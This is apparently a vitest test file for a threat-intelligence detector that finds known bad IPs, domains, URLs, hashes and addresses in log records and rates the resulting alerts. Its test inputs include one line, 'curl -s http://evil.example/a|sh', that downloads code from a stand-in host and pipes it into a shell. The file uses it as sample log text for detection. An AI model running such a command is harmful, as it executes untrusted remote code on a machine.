import { deserialize, serialize } from 'node:v8';
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import type { Event } from '#model/event.ts';
import type { KeyedMemory, Observation, StreamUnit } from '#model/stream.ts';
import { indicatorOf } from '#formats/indicator.ts';
import { indicatorDetector } from './detector.ts';
import { IndicatorSet } from './set.ts';
import { sightings } from './sighting.ts';

const digest = 'ab'.repeat(32);
const now = Date.UTC(2026, 2, 4);
const list = { name: 'feed.txt', date: now - 2 * 86_400_000 };

function setOf(...values: readonly string[]): IndicatorSet {
  const set = new IndicatorSet();
  for (const value of values) {
    const found = indicatorOf(value);
    if (!('reason' in found)) set.add(found, list);
  }
  return set;
}

const all = setOf('203.0.113.0/24', '2001:db8::9', 'evil.example', 'http://bad.example/gate.php?x=1', digest, 'eve@phish.example');

function observed(record: unknown, more: object = {}, time = now): Observation {
  return { event: { time, class_uid: 0, ...more } as unknown as Event, logsource: {}, time, record };
}

const noMemory: KeyedMemory<unknown> = { size: 0, get: () => undefined, set: () => undefined, delete: () => undefined, entries: () => [] };

function run(unit: StreamUnit, ...observations: readonly Observation[]): { rule: string; severity: string; confidence: string; message: string; tactics: readonly string[]; evidence: readonly { factor: string }[] }[] {
  let state: unknown = structuredClone(unit.initial);
  return observations.flatMap((observation) => {
    const step = unit.step(deserialize(serialize(state)), observation, observation.time, noMemory);
    state = step.state;
    return [...step.signals];
  });
}

describe('what occurs in a record', () => {
  it.each([
    ['203.0.113.9', '203.0.113.0/24'], ['203.0.113.9:443', '203.0.113.0/24'], ['[2001:db8::9]:443', '2001:db8::9'], ['a.b.EVIL.example.', 'evil.example'], ['https://www.evil.example/x', 'evil.example'], ['http://bad.example/gate.php?x=1', 'bad.example/gate.php?x=1'],
    [digest.toUpperCase(), digest], [`MD5=${'0'.repeat(32)},SHA256=${digest}`, digest], ['Eve@phish.example', 'eve@phish.example'], ['mail from x@evil.example today', 'evil.example'], ['connect to 203.0.113.9 port 22', '203.0.113.0/24'], ['curl -s http://evil.example/a|sh', 'evil.example'],
  ])('is found: %s', (text, value) => {
    const { found, cut } = sightings({ a: { b: [{ c: text }] } }, all);
    expect(found.map(({ indicator, field }) => [indicator.value, field])).toEqual([[value, 'a.b.c']]);
    expect(cut).toBe(false);
  });

  it.each(['198.51.100.9', 'notevil.example', 'evil.example.org', 'bad.example', 'http://bad.example/', 'eve@other.example', 'evil', digest.slice(1), 'evil,example'])('is not found: %s', (text) => {
    expect(sightings({ a: text }, all).found).toEqual([]);
  });

  it('has limits that are told', () => {
    expect(sightings({ a: 'x. '.repeat(5_000) }, all).cut).toBe(true);
    expect(sightings({ a: Array.from({ length: 1_001 }, () => 'word') }, all).cut).toBe(true);
    expect(sightings(JSON.parse(`${'{"a":'.repeat(20)}"x"${'}'.repeat(20)}`), all).cut).toBe(true);
  });

  it('never throws, and ends', () => {
    fc.assert(fc.property(fc.anything(), (value) => void sightings(value, all)));
    const started = process.threadCpuUsage();
    for (const filler of ['a', '.', 'a.', ':', '1:', '@', 'a@', '://', '-', 'http://']) sightings({ a: filler.repeat(60_000 / filler.length), b: filler.repeat(2_000 / filler.length) }, all);
    expect(process.threadCpuUsage(started).user / 1000).toBeLessThan(3_000);
  });
});

describe('the detector of known indicators', () => {
  const unit = indicatorDetector(all);

  it('tells name, list and age, and rates reaching out above being reached', () => {
    const [out] = run(unit, observed({ query: 'www.evil.example' }));
    expect(out).toMatchObject({ rule: 'event/known-indicator', severity: 'high', confidence: 'medium', tactics: ['command-and-control'] });
    expect(out?.message).toBe('www.evil.example occurs in `query`; the list "feed.txt" names it, an entry of 2 days before.');
    const [inbound] = run(unit, observed({ src: '203.0.113.9' }, { src_endpoint: { ip: '203.0.113.9' } }));
    expect(inbound).toMatchObject({ severity: 'low', tactics: ['initial-access'] });
  });

  it('is less sure of what is old, and silent about what has expired', () => {
    const set = new IndicatorSet();
    set.add({ kind: 'network', value: '203.0.113.9', since: now - 60 * 86_400_000, confidence: 90 }, list);
    set.add({ kind: 'domain', value: 'evil.example', confidence: 90, until: now - 1 }, list);
    const found = run(indicatorDetector(set), observed({ a: '203.0.113.9', b: 'evil.example' }));
    expect(found.map(({ confidence, evidence }) => [confidence, evidence.map(({ factor }) => factor)])).toEqual([['low', ['indicator.listed', 'indicator.stale', 'indicator.reached']]]);
  });

  it('tells of one value once an hour for one party, over restarts too', () => {
    const at = (minutes: number, host = 'web-1'): Observation => observed({ a: 'evil.example' }, { device: { hostname: host } }, now + minutes * 60_000);
    expect(run(unit, at(0), at(30), at(45, 'web-2'), at(61))).toHaveLength(3);
  });

  it('shows no text from outside as it came', () => {
    const [signal] = run(unit, observed({ ['f\u001b[31m'.repeat(50)]: 'evil.example' }));
    expect(signal?.message).not.toMatch(/\u001b/);
    expect(signal?.message.length).toBeLessThan(400);
  });
});
